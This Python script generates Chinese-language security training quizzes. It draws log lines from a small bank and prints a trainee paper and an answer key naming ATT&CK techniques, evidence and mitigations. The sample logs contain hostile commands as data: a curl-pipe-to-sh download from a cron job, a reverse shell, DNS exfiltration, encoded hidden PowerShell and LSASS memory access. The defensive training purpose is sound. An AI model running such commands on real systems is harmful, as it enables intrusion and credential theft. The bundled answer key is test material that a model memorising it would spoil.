#!/usr/bin/env python3
"""从题库抽题，生成学员卷和答案卷。"""
import argparse
import random

BANK = [
    {
        "log": 'type=EXECVE a0="sh" a1="-c" a2="curl -s http://10.10.0.5/x | sh" ppid=812 comm="crond"',
        "answer": "T1053.003 计划任务持久化",
        "evidence": "父进程 crond，子进程 curl 管道到 sh",
        "fix": "清理 crontab，限制出网，监控 /var/spool/cron",
    },
    {
        "log": "ESTAB 10.10.3.7:51234 10.10.0.5:4444 users:((\"bash\",pid=4411,fd=0))",
        "answer": "T1059.004 反弹 shell",
        "evidence": "bash 的 fd 0 是 socket",
        "fix": "隔离主机，查父进程，出口白名单",
    },
    {
        "log": "query: mfrggzdfmztwq2lk.t.lab.test IN TXT (每秒 30 条，子域各不相同)",
        "answer": "T1048 DNS 外传",
        "evidence": "唯一子域数激增，base32 特征",
        "fix": "只允许内部解析器出网，限速，告警",
    },
    {
        "log": "EventID=4688 NewProcess=powershell.exe CommandLine=-nop -w hidden -enc SQBFAFgA...",
        "answer": "T1059.001 PowerShell 编码命令",
        "evidence": "-enc 与隐藏窗口",
        "fix": "开启脚本块日志 4104，受限语言模式",
    },
    {
        "log": "sshd: Accepted publickey for deploy from 10.10.9.9; authorized_keys mtime 2 分钟前",
        "answer": "T1098.004 SSH 公钥持久化",
        "evidence": "authorized_keys 刚被改且来源陌生",
        "fix": "移除公钥，集中下发，文件完整性监控",
    },
    {
        "log": "EventID=10 SourceImage=rundll32.exe TargetImage=lsass.exe GrantedAccess=0x1410",
        "answer": "T1003.001 LSASS 内存读取",
        "evidence": "非系统进程访问 lsass",
        "fix": "开启 LSA 保护、Credential Guard",
    },
]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--n", type=int, default=5)
    ap.add_argument("--seed", type=int)
    ap.add_argument("--answers", action="store_true")
    a = ap.parse_args()
    rng = random.Random(a.seed)
    for i, q in enumerate(rng.sample(BANK, min(a.n, len(BANK))), 1):
        print(f"{i}. 下面的记录说明了什么？请写手法、证据、缓解。\n   {q['log']}\n")
        if a.answers:
            print(f"   手法：{q['answer']}\n   证据：{q['evidence']}\n   缓解：{q['fix']}\n")


if __name__ == "__main__":
    main()
